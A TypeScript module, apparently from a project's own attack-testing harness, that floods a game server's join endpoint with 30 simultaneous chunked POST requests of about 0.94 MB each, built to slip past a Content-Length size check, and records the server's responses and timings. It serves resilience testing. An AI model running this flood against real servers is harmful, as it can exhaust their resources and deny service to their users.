import http from 'node:http';
import { ATTACKER_ADDRESS, Tally, spread, type Attack } from '../attack-kit.ts';
import { attackerJson } from '../attacker-http.ts';
import { AYAR } from '../attacker-seats.ts';

const REQUESTS = 30;
const BODY_BYTES = Math.round(0.94 * 1024 * 1024);
const CHUNK_BYTES = 16 * 1024;
const ANSWER_TIMEOUT_MS = 10_000;

const body = Buffer.from(`{"playerName":"${'A'.repeat(BODY_BYTES - 17)}"}`);

interface Sent {
  outcome: string;
  /** From the first byte sent to the answer or the cut. */
  ms: number;
}

/** One chunked join, written chunk by chunk until the body is done or the server has answered. */
function sendChunkedJoin(url: string, matchID: string): Promise<Sent> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const started = performance.now();
    let written = 0;
    let over = false;
    const finish = (outcome: string) => {
      over = true;
      resolve({ outcome, ms: Math.round(performance.now() - started) });
    };
    const request = http.request(
      {
        host: hostname,
        port,
        method: 'POST',
        path: `/games/${AYAR}/${matchID}/join`,
        headers: { 'content-type': 'application/json', 'transfer-encoding': 'chunked' },
        agent: false,
        localAddress: ATTACKER_ADDRESS,
        timeout: ANSWER_TIMEOUT_MS,
      },
      (response) => {
        response.resume();
        finish(String(response.statusCode));
      },
    );
    request.once('timeout', () => (finish('no answer in 10 s'), request.destroy()));
    request.on('error', (error) => finish(`cut off by the server while sending (${(error as NodeJS.ErrnoException).code ?? error.message})`));
    const writeMore = () => {
      while (!over && written < body.length) {
        const chunk = body.subarray(written, written + CHUNK_BYTES);
        written += chunk.length;
        if (!request.write(chunk)) return void request.once('drain', writeMore);
      }
      if (!over) request.end();
    };
    writeMore();
  });
}

/** The first listed match, or a made-up id: the body is read before the match is looked up. */
async function someMatch(url: string): Promise<string> {
  const { value } = await attackerJson<{ matches: { matchID: string }[] }>(url, 'GET', `/games/${AYAR}?limit=1`);
  return value?.matches[0]?.matchID ?? 'no-such-match';
}

/** Joins with ~0.94 MB chunked bodies: no Content-Length for a size check to read up front. */
export const chunkedJoin: Attack = async ({ url }) => {
  const matchID = await someMatch(url);
  const sent = await Promise.all(Array.from({ length: REQUESTS }, () => sendChunkedJoin(url, matchID)));
  return [
    `${REQUESTS} joins of ${(body.length / 1024).toFixed(0)} KB each, chunked, at once, to match ${matchID}`,
    `answers: ${Tally.of(sent.map((s) => s.outcome))}`,
    `ms to the answer or the cut: ${spread(sent.map((s) => s.ms))}`,
  ];
};
